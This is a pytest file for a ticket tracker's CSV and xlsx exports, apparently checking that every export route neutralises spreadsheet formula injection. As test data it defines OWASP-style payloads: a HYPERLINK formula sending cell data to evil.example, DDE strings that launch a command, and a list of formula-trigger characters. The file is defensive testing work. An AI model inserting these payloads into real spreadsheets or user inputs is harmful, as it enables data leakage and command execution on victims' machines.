"""Formula injection: no text anyone typed becomes a live formula in any CSV or xlsx export.

The world's centre, category and technician names, a request's title,
place and comment, a rectification item and an import's rows all start
with a character a spreadsheet reads as a formula. Every export route of
the app (found by walking the URL map, so a new one cannot be forgotten)
is downloaded, opened with the csv module or openpyxl, and read cell by
cell: no formula, every dangerous text prefixed with a quote and otherwise
intact, numbers still numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from tests.factories import T0, make_ticket
from tracker.domain.rectification import Source
from tracker.domain.workflow import Status
from tracker.extensions import db
from tracker.services.insight import weekly
from tracker.services.ledger import rectification as rectification_service
from tracker.services.requests import importer
from tracker.services.requests import tickets as ticket_service

# What users and administrators typed (OWASP's examples, a full-width sign).
TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
REPAIRS = "+Repairs SUM(1+1)"
DORM = "@Dorms SUM(1+1)"
WATER = "-Water 2+3"
TECHNICIAN = "\uff1dTech 1+1"  # ＝, which a Chinese or Japanese Excel also takes for "="
PLACE = "+1+1 behind the door"
COMMENT = "=cmd|' /C calc'!A0"
ITEM = "@SUM(1+1)*cmd|' /C calc'!A0"
SOURCE_REF = "-2+3 survey"
CASE = "=1+1"
MATERIAL = "=Tap 1+1"

# The first characters a spreadsheet may take for a formula (OWASP, ASVS 5.0).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PERIOD = "from=2026-03-01&to=2026-03-31"


@pytest.fixture
def poisoned(world, tmp_path):
    """The world with formula-like names and texts in every export, and one of each kind of record."""
    world.centres["repairs"].name_en = REPAIRS
    world.centres["dorm"].name_en = DORM
    world.categories["water"].name_en = WATER
    world.users["technician"].display_name = TECHNICIAN
    db.session.commit()
    ticket = make_ticket(world, status=Status.ACCEPTED, title=TITLE, location_note=PLACE)
    make_ticket(world, category="keys", title=TITLE)
    ticket_service.add_comment(ticket.id, actor=world.users["technician"], body=COMMENT, now=T0 + timedelta(hours=1))
    rectification_service.create_item(
        rectification_service.NewItem(
            centre_id=world.centres["repairs"].id, title=ITEM, description="Taps keep leaking in building 3.",
            responsible_id=world.users["technician"].id, due_on=date(2026, 3, 20), source=Source.SURVEY,
            source_ref=SOURCE_REF),
        actor=world.users["dispatcher"], now=T0)
    weekly.generate(date(2026, 3, 2), actor=None, now=T0 + timedelta(days=8))
    source = tmp_path / "cases.csv"
    header = "CASE_ENQUIRY_ID,OPEN_DT,TARGET_DT,CLOSED_DT,CASE_STATUS,CASE_TITLE,SUBJECT,TYPE,CLOSURE_REASON,Location"
    rows = [f"{CASE},not a date,,,Open,Leak,Water,Leak,,", f'"{COMMENT}",not a date,,,Open,Leak,Water,Leak,,']
    source.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    importer.ensure_builtin_mappings(now=T0)
    run = importer.create_run(mapping=importer.mapping_by_code("boston-311"),
                              files=[{"name": "cases.csv", "path": str(source)}], dry_run=True, actor=None, now=T0)
    assert importer.execute_run(run.id).rows_error == 2
    _paid_repair_with_materials(world)
    return {"run": run.id, "repairs": world.centres["repairs"].id}


def _paid_repair_with_materials(world) -> None:
    """A material with a formula-like name, its stock-in, and a charged repair that used it."""
    from tracker.services.materials import catalogue, quotes, stock

    material = catalogue.create_material(
        world.centres["repairs"].id,
        catalogue.MaterialInput(code="tap", name_en=MATERIAL, name_zh="", unit="pcs", unit_cost="10",
                                low_stock_threshold="0"),
        actor=world.users["centre_head"], now=T0)
    catalogue.stock_in(material.id, "5", actor=world.users["centre_head"], now=T0, note=COMMENT)
    world.categories["water"].is_chargeable = True
    db.session.commit()
    ticket = make_ticket(world, status=Status.IN_PROGRESS)
    quote = quotes.send_quote(ticket.id, labour="50", actor=world.users["technician"], now=T0 + timedelta(hours=2))
    quotes.answer_quote(quote.id, accept=True, actor=world.users["requester"], now=T0 + timedelta(hours=3))
    stock.resolve(ticket.id, actor=world.users["technician"], now=T0 + timedelta(hours=4), resolution_note="Done.",
                  lines=[stock.UsedLine(material.id, "1")])


# Every export route: who downloads, the URL ({fmt} and the ``poisoned``
# ids filled in), its formats and the typed texts it must carry, neutralised.
BOTH = ("csv", "xlsx")
DASHBOARD_TABLES = {"centres": {REPAIRS}, "ageing-centres": {REPAIRS}, "categories": {WATER},
                    "ageing-categories": {WATER}, "technicians": {TECHNICIAN}, "trend-week": set(),
                    "trend-month": set()}
EXPORTS = {
    "tickets.export": [("leadership", "/tickets/export.{fmt}?state=all", BOTH,
                        {TITLE, REPAIRS, DORM, WATER, PLACE})],
    "tickets.events_export": [("leadership", "/tickets/events.{fmt}?state=all", BOTH, {COMMENT})],
    "dashboards.export": [
        *(("leadership", f"/dashboard/export/{name}.{{fmt}}?{PERIOD}&centre={{repairs}}", BOTH, texts)
          for name, texts in DASHBOARD_TABLES.items()),
        ("leadership", f"/dashboard/export/centres.{{fmt}}?{PERIOD}", BOTH, {REPAIRS, DORM}),
    ],
    "dashboards.tickets_export": [("centre_head", f"/dashboard/tickets.{{fmt}}?figure=backlog&{PERIOD}", BOTH,
                                   {TITLE, REPAIRS, WATER, TECHNICIAN})],
    "rectification.export": [("dispatcher", "/rectification/items.{fmt}?figure=active", BOTH,
                              {ITEM, REPAIRS, SOURCE_REF, TECHNICIAN})],
    "rectification.dashboard_export": [
        ("leadership", f"/rectification/dashboard/export/{name}.{{fmt}}", BOTH, texts)
        for name, texts in (("backlog", {REPAIRS}), ("ageing", {REPAIRS}), ("burndown", set()))
    ],
    "weekly.download": [("leadership", "/weekly/2026-03-02/report.{fmt}", ("xlsx",),
                         {TITLE, REPAIRS, DORM, ITEM, TECHNICIAN})],
    "imports.errors_export": [("admin", "/admin/imports/runs/{run}/errors.{fmt}", ("csv",), {CASE, COMMENT})],
    # The poisoned world resolves nothing, so the cards are empty; the writer still checks every cell.
    "scorecards.export": [("leadership", f"/scorecards/export.xlsx?{PERIOD}", ("xlsx",), set())],
    "materials.export": [
        ("leadership", f"/materials/ledger.{{fmt}}?{PERIOD}", BOTH, {REPAIRS, MATERIAL, COMMENT, TECHNICIAN}),
        ("centre_head", f"/materials/charges.{{fmt}}?{PERIOD}", BOTH, {REPAIRS, TECHNICIAN}),
    ],
}

# A route that writes a file: its URL ends in a spreadsheet suffix or a
# format argument, or its endpoint names an export.
EXPORT_SUFFIX = re.compile(r"\.(csv|xlsx|<fmt>)$")


def test_every_export_route_is_checked_here(app):
    routes = {rule.endpoint for rule in app.url_map.iter_rules()
              if "GET" in rule.methods and (EXPORT_SUFFIX.search(rule.rule) or "export" in rule.endpoint)}
    assert routes == set(EXPORTS), "a new export: add it to EXPORTS, written through tracker.services.insight.exports"


def test_only_the_export_writer_writes_spreadsheets():
    """No second path: csv writers and openpyxl workbooks are made in tracker/services/insight/exports.py only."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|WriteOnlyCell|\.to_csv\(|\bxlsxwriter\b")
    found = sorted(str(path.relative_to(root)) for folder in ("tracker", "workers")
                   for path in (root / folder).rglob("*.py") if writers.search(path.read_text(encoding="utf-8")))
    assert found == ["tracker/services/insight/exports.py"]


def _table(response) -> list[list]:
    """Return every row of every sheet: CSV as text, xlsx as openpyxl cells."""
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    data = response.get_data()
    if response.mimetype == "text/csv":
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    book = load_workbook(io.BytesIO(data))  # not read-only: formulas would keep their type
    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows()]


@pytest.mark.parametrize("endpoint", sorted(EXPORTS))
def test_no_typed_text_becomes_a_formula(client, login_as, poisoned, endpoint):
    for role, template, formats, typed in EXPORTS[endpoint]:
        login_as(role)
        for fmt in formats:
            url = template.format(fmt=fmt, **poisoned)
            texts = []
            rows = _table(client.get(url))
            assert len(rows) > 1, url
            for row in rows:
                for cell in row:
                    if isinstance(cell, str):
                        texts.append(cell)
                        continue
                    assert cell.data_type != "f", f"{url} {cell.coordinate} is a formula: {cell.value!r}"
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", f"{url} {cell.coordinate}: {cell.value!r} is not text"
                        texts.append(cell.value)
            assert [t for t in texts if t.startswith(DANGEROUS)] == [], url
            # The text survives: the quote in front, then exactly what was typed.
            for text in typed:
                assert "'" + text in texts, (url, text, texts[:40])


def test_figures_stay_numbers_in_xlsx(client, login_as, poisoned):
    login_as("leadership")
    rows = _table(client.get(f"/dashboard/export/centres.xlsx?{PERIOD}"))
    received = rows[0].index(next(c for c in rows[0] if c.value == "Received"))
    figures = [row[received] for row in rows[1:]]
    assert [c.data_type for c in figures] == ["n"] * len(figures)
    assert sum(c.value for c in figures[:-1]) == figures[-1].value == 2  # the total row
